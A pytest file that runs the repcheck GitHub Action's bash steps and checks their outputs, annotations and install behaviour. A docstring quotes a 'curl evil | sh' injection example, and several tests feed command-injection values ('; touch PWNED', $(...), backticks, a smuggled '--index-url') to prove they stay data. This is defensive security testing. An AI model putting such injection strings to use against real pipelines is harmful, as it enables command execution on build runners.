"""The CI integrations as a user meets them: the GitHub Action (``action.yml``) and the pre-commit hook
(``.pre-commit-hooks.yaml``).

The action's ``run:`` steps are executed for real, with bash as GitHub runs a ``shell: bash`` step
(``bash --noprofile --norc -eo pipefail``): each ``${{ ... }}`` of a step's ``env:`` is replaced by a test value, as
the runner would, and ``$GITHUB_OUTPUT`` and ``$GITHUB_STEP_SUMMARY`` point to files. ``actions/setup-python`` is
not run: this environment's ``repcheck`` (next to ``sys.executable``) goes first on ``PATH``, and the install step
runs against a stand-in ``python`` that records what pip would have been asked to install. The hook is run the way
pre-commit runs it: ``shlex.split(entry) + args + the staged files its ``files`` pattern selects``.
"""

from __future__ import annotations

import re
import shutil
import subprocess
from dataclasses import dataclass
from pathlib import Path

import pytest
from integration_helpers import (
    ACTION,
    BASH,
    DETECTED,
    FAILING,
    FIXTURES,
    NOT_A_STORY,
    PASSING,
    ROOT,
    STEPS,
    clean_env,
    needs_bash,
    step,
    workspace,
)

# -- action.yml: its shape --------------------------------------------------------------------------------------------

EXPRESSION = re.compile(r"^\$\{\{\s*([A-Za-z_][\w.-]*)\s*\}\}$")
INLINE_EXPRESSION = re.compile(r"\$\{\{\s*([A-Za-z_][\w.-]*)\s*\}\}")
INPUTS = {"targets", "rules", "config", "format", "fail-on", "base-url", "args", "python-version", "version"}


def test_action_metadata() -> None:
    assert ACTION["name"] == "repcheck"
    assert "republ" in ACTION["description"]
    assert ACTION["branding"] == {"icon": "check-square", "color": "blue"}
    assert ACTION["runs"]["using"] == "composite"


def test_action_inputs_and_their_defaults() -> None:
    inputs = ACTION["inputs"]
    assert set(inputs) == INPUTS
    for name, spec in inputs.items():
        assert spec["description"].strip(), name
        assert spec.get("required", False) is False, f"{name}: every input is optional"
    assert inputs["format"]["default"] == "github"
    assert inputs["python-version"]["default"] == "3.11"
    # Empty defaults add nothing to the command line, so the config file's own values (or repcheck's defaults)
    # hold: an action default of `--rules dcnf` or `--fail-on error` would beat the config file's `rules`/`fail_on`.
    for name in ("targets", "rules", "config", "fail-on", "base-url", "args", "version"):
        assert inputs[name]["default"] == "", name


def test_every_input_reaches_a_step() -> None:
    used = set()
    for s in STEPS:
        for value in [*s.get("env", {}).values(), *s.get("with", {}).values()]:
            used.update(re.findall(r"inputs\.([\w-]+)", str(value)))
    assert used == INPUTS


def test_action_output_is_the_check_steps_exit_code() -> None:
    assert ACTION["outputs"]["exit-code"]["value"] == "${{ steps.check.outputs.exit-code }}"
    assert [s.get("id") for s in STEPS[1:]] == ["install", "check"]


def test_python_is_set_up_first() -> None:
    setup = STEPS[0]
    assert setup["uses"] == "actions/setup-python@v5"
    assert setup["with"] == {"python-version": "${{ inputs.python-version }}"}


def test_run_scripts_never_interpolate_expressions() -> None:
    """Script injection guard: a `${{ inputs.* }}` (or any expression) written inside a `run:` script is pasted
    into the script's text before bash reads it, so an input such as `"; curl evil | sh; "` would run. Inputs go
    through `env:` instead, each value one whole expression."""
    scripts = [s for s in STEPS if "run" in s]
    assert scripts, "the action has run steps"
    for s in scripts:
        assert s["shell"] == "bash"
        assert "${{" not in s["run"], f"step {s['id']!r}: an expression inside run: (pass it through env:)"
        for key, value in s["env"].items():
            assert EXPRESSION.match(value), f"step {s['id']!r}: env {key} must be one expression, not {value!r}"


# -- action.yml: its steps, run ---------------------------------------------------------------------------------------


@dataclass
class StepRun:
    code: int
    stdout: str
    stderr: str
    outputs: dict[str, str]
    summary: str


def expression_values(inputs: dict[str, str]) -> dict[str, str]:
    """What the runner would put for each expression: the inputs given (else their defaults), and the action's
    own checkout for github.action_path."""
    unknown = set(inputs) - INPUTS
    assert not unknown, f"not inputs of the action: {unknown}"
    values = {f"inputs.{name}": str(spec.get("default", "")) for name, spec in ACTION["inputs"].items()}
    values.update({f"inputs.{name}": value for name, value in inputs.items()})
    values["github.action_path"] = str(ROOT)
    return values


def run_step(step_id: str, cwd: Path, *, path_first: tuple[Path, ...] = (), **inputs: str) -> StepRun:
    """Run the step's script as GitHub would run it in ``cwd`` (the workspace). Inputs are named as in action.yml,
    with ``_`` for ``-`` (``fail_on="never"``)."""
    s = step(step_id)
    values = expression_values({name.replace("_", "-"): value for name, value in inputs.items()})
    runner = cwd.parent / "runner"
    runner.mkdir(exist_ok=True)
    output, summary, script = runner / "output.txt", runner / "summary.md", runner / f"{step_id}.sh"
    output.write_text("", encoding="utf-8")
    summary.write_text("", encoding="utf-8")
    # As the runner does: an expression in the script's text would be replaced by its value before bash reads it
    # (test_run_scripts_never_interpolate_expressions forbids any; this makes the run tests catch one too).
    script.write_text(INLINE_EXPRESSION.sub(lambda m: values[m.group(1)], s["run"]), encoding="utf-8")
    env = clean_env(*path_first)
    env.update(
        GITHUB_OUTPUT=str(output), GITHUB_STEP_SUMMARY=str(summary), GITHUB_WORKSPACE=str(cwd), RUNNER_TEMP=str(runner)
    )
    for key, value in s.get("env", {}).items():
        match = EXPRESSION.match(value)
        assert match, f"env {key}: {value!r} is not one expression"
        env[key] = values[match.group(1)]
    assert BASH is not None
    done = subprocess.run(
        [BASH, "--noprofile", "--norc", "-eo", "pipefail", str(script)],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    outputs = dict(line.split("=", 1) for line in output.read_text(encoding="utf-8").splitlines() if line)
    return StepRun(done.returncode, done.stdout, done.stderr, outputs, summary.read_text(encoding="utf-8"))


def annotation_lines(stdout: str, level: str = "error") -> list[str]:
    return [line for line in stdout.splitlines() if line.startswith(f"::{level} ")]


@needs_bash
def test_action_fails_the_step_on_a_failing_page(tmp_path: Path) -> None:
    ws = workspace(tmp_path, PASSING, FAILING)
    run = run_step("check", ws, targets=f"{PASSING}\n{FAILING}\n", args='--reporter "Nick Pope"')
    assert run.code == 1, run.stderr
    assert run.outputs == {"exit-code": "1"}
    errors = annotation_lines(run.stdout)
    assert any(
        line.startswith(f"::error file={FAILING},title=repcheck logo::{FAILING}: no Daily Caller News Foundation logo")
        for line in errors
    ), run.stdout
    # "Nick Pope" reached repcheck as one name: the passing page passed, nothing was "could not check".
    assert not [line for line in errors if PASSING in line or "could not check" in line], run.stdout
    assert "::notice title=repcheck::2 pages: 1 passed, 1 failed, 0 could not be checked" in run.stdout
    assert run.summary.startswith("## repcheck\n")
    assert "| Page | logo | byline | affiliation | notice |" in run.summary
    assert f"| {PASSING} | ✅ pass | ✅ pass | ✅ pass | ✅ pass |" in run.summary
    assert f"| {FAILING} | ❌ fail |" in run.summary


@needs_bash
def test_action_passes_when_every_page_passes(tmp_path: Path) -> None:
    ws = workspace(tmp_path, PASSING)
    run = run_step("check", ws, targets=PASSING, args='--reporter "Nick Pope"')
    assert (run.code, run.outputs) == (0, {"exit-code": "0"}), run.stdout + run.stderr
    assert annotation_lines(run.stdout) == []
    assert "::notice title=repcheck::1 page: 1 passed, 0 failed, 0 could not be checked" in run.stdout


@needs_bash
def test_action_exit_code_3_when_a_page_could_not_be_checked(tmp_path: Path) -> None:
    ws = workspace(tmp_path, DETECTED)
    run = run_step("check", ws, targets=f"{DETECTED} missing.html")
    assert (run.code, run.outputs) == (3, {"exit-code": "3"})
    assert annotation_lines(run.stdout) == [
        "::error file=missing.html,title=repcheck (could not check)::missing.html: file not found: missing.html"
    ]


@needs_bash
def test_action_with_every_input_set(tmp_path: Path) -> None:
    """rules, config, format, fail-on and base-url each reach the command line."""
    ws = workspace(tmp_path, **{"_site/2024/story/index.html": FAILING, "_site/about/index.html": NOT_A_STORY})
    config = tmp_path / "ci-repcheck.toml"
    config.write_text('disable = ["notice"]\n', encoding="utf-8")
    run = run_step(
        "check",
        ws,
        targets="_site",
        rules="dcnf",
        config=str(config),
        format="github",
        fail_on="warning",
        base_url="https://partner.example/",
    )
    assert run.code == 1
    assert (
        "::error file=_site/2024/story/index.html,title=repcheck logo::https://partner.example/2024/story/: no "
        "Daily Caller News Foundation logo"
    ) in run.stdout
    # The folder was checked as a site: the page that never shows DCNF was skipped, not failed.
    assert "/about/" not in run.stdout
    assert "| Page | logo | byline | affiliation |\n" in run.summary  # `notice` disabled by the config file
    assert "(https://partner.example/2024/story/)" in run.summary
    assert "severity warning or above" in run.summary

    run = run_step("check", ws, targets="_site", format="jsonl", base_url="https://partner.example/")
    assert run.code == 1
    assert '"url": "https://partner.example/2024/story/"' in run.stdout
    assert run.summary == ""  # no step summary but from the github format


@pytest.mark.slow
@needs_bash
def test_action_without_targets_uses_the_config_file(tmp_path: Path) -> None:
    """Empty inputs add nothing: the config file's [[target]]s are checked, and its fail_on is not overridden."""
    ws = workspace(tmp_path, **{"site/story.html": DETECTED, "site/about.html": NOT_A_STORY})
    (ws / "repcheck.toml").write_text('[[target]]\npath = "site"\n', encoding="utf-8")
    run = run_step("check", ws)
    assert (run.code, run.outputs) == (0, {"exit-code": "0"}), run.stdout + run.stderr
    assert "::notice title=repcheck::1 page: 1 passed" in run.stdout

    shutil.copyfile(FIXTURES / "static" / "logo-missing.html", ws / "site" / "logo-missing.html")
    assert run_step("check", ws).code == 1
    (ws / "repcheck.toml").write_text('fail_on = "never"\n[[target]]\npath = "site"\n', encoding="utf-8")
    run = run_step("check", ws)
    assert (run.code, run.outputs) == (0, {"exit-code": "0"})
    assert "::warning file=site/logo-missing.html,title=repcheck logo::" in run.stdout
    assert run_step("check", ws, fail_on="error").code == 1  # the input, when given, beats the file


@needs_bash
def test_action_without_targets_or_config_is_a_usage_error(tmp_path: Path) -> None:
    run = run_step("check", workspace(tmp_path))
    assert (run.code, run.outputs) == (2, {"exit-code": "2"})
    assert "give a TARGET" in run.stderr


@needs_bash
def test_quoted_targets_and_args_keep_their_spaces(tmp_path: Path) -> None:
    ws = workspace(tmp_path, **{"my site/story one.html": PASSING})
    run = run_step("check", ws, targets='"my site/story one.html"', args="--reporter 'Nick Pope' --fail-on error")
    assert run.code == 0, run.stdout + run.stderr
    assert "1 page: 1 passed" in run.stdout


@needs_bash
@pytest.mark.parametrize(
    ("targets", "args"),
    [
        (PASSING, '--reporter "x"; touch PWNED'),
        (PASSING, "--reporter $(touch PWNED)"),
        (PASSING, "--reporter `touch PWNED`"),
        (PASSING, "--reporter x && touch PWNED || touch PWNED"),
        (PASSING, '--reporter "$(touch PWNED)" --reporter ${IFS}x'),
        (f"{PASSING}; touch PWNED", ""),
        (f"$(touch PWNED) {PASSING}", ""),
        (f"{PASSING}\n`touch PWNED`\n", ""),
    ],
    ids=[
        "semicolon",
        "dollar-paren",
        "backticks",
        "and-or",
        "quoted-subst",
        "target-semicolon",
        "target-subst",
        "target-backticks",
    ],
)
def test_inputs_are_data_never_shell_code(tmp_path: Path, targets: str, args: str) -> None:
    ws = workspace(tmp_path, PASSING)
    run = run_step("check", ws, targets=targets, args=args)
    assert not list(tmp_path.rglob("PWNED*")), "an input was run as shell code"
    # The words reached repcheck as words: options' values or targets (files that do not exist).
    assert run.code in (1, 3), run.stdout + run.stderr
    assert run.outputs == {"exit-code": str(run.code)}


@needs_bash
def test_globs_are_left_to_repcheck(tmp_path: Path) -> None:
    """bash does not expand a glob in `targets`: repcheck does, and treats it as a folder scan, where a page that
    never shows the licensor is skipped. (Expanded by bash, each page would be named, and checked.)"""
    ws = workspace(tmp_path, DETECTED, NOT_A_STORY)
    run = run_step("check", ws, targets="'fixtures/**/*.html'")
    assert run.code == 0, run.stdout + run.stderr
    assert "1 skipped" in run.stderr
    run = run_step("check", ws, targets="fixtures/*/*.html")
    assert run.code == 0, run.stdout + run.stderr


@needs_bash
def test_semicolon_words_reach_repcheck_as_targets(tmp_path: Path) -> None:
    ws = workspace(tmp_path, PASSING)
    run = run_step("check", ws, targets=PASSING, args='--reporter "Nick Pope"; touch PWNED')
    assert not (ws / "PWNED").exists()
    errors = annotation_lines(run.stdout)
    assert "::error file=touch,title=repcheck (could not check)::touch: file not found: touch" in errors
    assert "::error file=PWNED,title=repcheck (could not check)::PWNED: file not found: PWNED" in errors
    # `;` stayed part of the name: "Nick Pope;" is not the byline's "Nick Pope", so the page fails.
    assert run.code == 1


@needs_bash
@pytest.mark.parametrize("name", ["args", "targets"])
def test_unbalanced_quotes_are_a_usage_error(tmp_path: Path, name: str) -> None:
    unclosed = '--reporter "Nick Pope'
    run = run_step(
        "check",
        workspace(tmp_path, PASSING),
        targets=unclosed if name == "targets" else PASSING,
        args=unclosed if name == "args" else "",
    )
    assert (run.code, run.outputs) == (2, {"exit-code": "2"})
    assert run.stdout.startswith(
        f"::error title=repcheck action::inputs.{name} cannot be split into words: No closing quotation"
    )


STUB_PYTHON = """#!/usr/bin/env bash
# Stands in for setup-python's interpreter: records its arguments, one a line, and installs nothing.
printf '%s\\n' "$@" > "$STUB_LOG"
"""


@needs_bash
@pytest.mark.parametrize(
    ("version", "requirement"),
    [
        ("", str(ROOT)),
        ("0.2.0", "repcheck==0.2.0"),
        (">=0.1,<0.2", "repcheck>=0.1,<0.2"),
        ("~=0.1", "repcheck~=0.1"),
        ("repcheck @ git+https://example.invalid/repcheck@v1", "repcheck @ git+https://example.invalid/repcheck@v1"),
    ],
)
def test_install_step(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, version: str, requirement: str) -> None:
    stub = tmp_path / "stub-bin"
    stub.mkdir()
    (stub / "python").write_text(STUB_PYTHON, encoding="utf-8")
    (stub / "python").chmod(0o755)
    log = tmp_path / "pip-args.txt"
    monkeypatch.setenv("STUB_LOG", str(log))
    run = run_step("install", workspace(tmp_path), path_first=(stub,), version=version)
    assert run.code == 0, run.stdout + run.stderr
    assert log.read_text(encoding="utf-8").splitlines() == [
        "-m",
        "pip",
        "install",
        "--disable-pip-version-check",
        "--quiet",
        requirement,
    ]
    assert re.search(r"^repcheck, version \S+$", run.stdout, re.MULTILINE)  # `repcheck --version` after


@needs_bash
def test_install_step_refuses_an_option_for_a_version(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("STUB_LOG", str(tmp_path / "pip-args.txt"))
    stub = tmp_path / "stub-bin"
    stub.mkdir()
    (stub / "python").write_text(STUB_PYTHON, encoding="utf-8")
    (stub / "python").chmod(0o755)
    run = run_step("install", workspace(tmp_path), path_first=(stub,), version="--index-url=https://example.invalid")
    assert run.code == 2
    assert not (tmp_path / "pip-args.txt").exists()
